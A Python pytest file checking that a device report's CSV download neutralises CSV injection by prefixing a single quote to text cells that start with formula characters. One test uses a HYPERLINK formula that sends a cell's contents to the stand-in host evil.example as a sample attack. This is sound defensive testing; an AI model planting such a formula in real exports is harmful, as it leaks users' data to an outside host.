"""No cell of the CSV download starts a spreadsheet formula (CSV injection).

Hostnames, ids, versions and destinations are whatever a device or an admin sent; a
spreadsheet opening the download would run `=HYPERLINK(...)` as a formula. A text cell
starting with `=`, `+`, `-`, `@`, a tab or a carriage return is written after a single
quote (OWASP's advice), which makes it text. Numbers and times are written by the code
and stay numbers, negative ones too.
"""

from __future__ import annotations

from typing import Any

import pytest

from agents.report.download import CSV_COLUMNS, csv_lines
from tests.unit.streams.test_report import context, parse_csv, row

TITLES = [title for _, title in CSV_COLUMNS]
STARTS = ["=", "+", "-", "@", "\t", "\r"]
# The text columns and a value of each for a row's field.
TEXT: dict[str, tuple[str, Any]] = {
    "Org": ("org_id", "{}org"),
    "User": ("user_id", "{}jane"),
    "Device": ("device_id", "{}dev"),
    "Hostname": ("hostname", "{}laptop"),
    "Destinations": ("destinations", ("{}cloud", "nas")),
    "App version": ("app_version", "{}11.4"),
    "Top diagnosis": ("top_cause", "{}paused_by_user"),
}
NUMBERS = ["Completed %", "Days since last activity", "Selected bytes", "To do bytes"]


def cells(**fields: Any) -> dict[str, str]:
    device_id = fields.pop("device_id", "dev-1")
    (line,) = parse_csv(list(csv_lines([row(device_id, **fields)], context())))[1:]
    return dict(zip(TITLES, line, strict=True))


def with_start(value: Any, start: str) -> Any:
    if isinstance(value, tuple):
        return tuple(part.format(start) for part in value)
    return value.format(start)


@pytest.mark.parametrize("start", STARTS, ids=repr)
@pytest.mark.parametrize("title", list(TEXT))
def test_a_text_cell_that_would_start_a_formula_starts_with_a_quote(title: str, start: str) -> None:
    field, value = TEXT[title]
    given = with_start(value, start)

    written = cells(**{field: given})[title]

    expected = " ".join(given) if isinstance(given, tuple) else given
    assert written == "'" + expected


@pytest.mark.parametrize("title", list(TEXT))
def test_other_text_is_written_as_it_is(title: str) -> None:
    field, value = TEXT[title]
    given = with_start(value, "")

    written = cells(**{field: given})[title]

    assert written == (" ".join(given) if isinstance(given, tuple) else given)


def test_a_hyperlink_formula_in_a_hostname_is_text() -> None:
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'

    assert cells(hostname=formula)["Hostname"] == "'" + formula


def test_only_the_first_character_counts() -> None:
    written = cells(hostname="laptop=1", destinations=("cloud", "=nas"))

    assert (written["Hostname"], written["Destinations"]) == ("laptop=1", "cloud =nas")


def test_numbers_stay_numbers_negative_ones_too() -> None:
    written = cells(percent_complete=-0.5, selected_bytes=-1, todo_bytes=-2)

    assert written["Completed %"] == "-0.5"
    assert written["Selected bytes"] == "-1"
    assert written["To do bytes"] == "-2"
    assert all(not written[title].startswith("'") for title in NUMBERS)


def test_no_cell_of_a_hostile_row_starts_a_formula() -> None:
    hostile = {field: with_start(value, "=") for field, value in TEXT.values()}

    written = cells(**hostile)

    for title, text in written.items():
        assert text[:1] not in STARTS, (title, text)
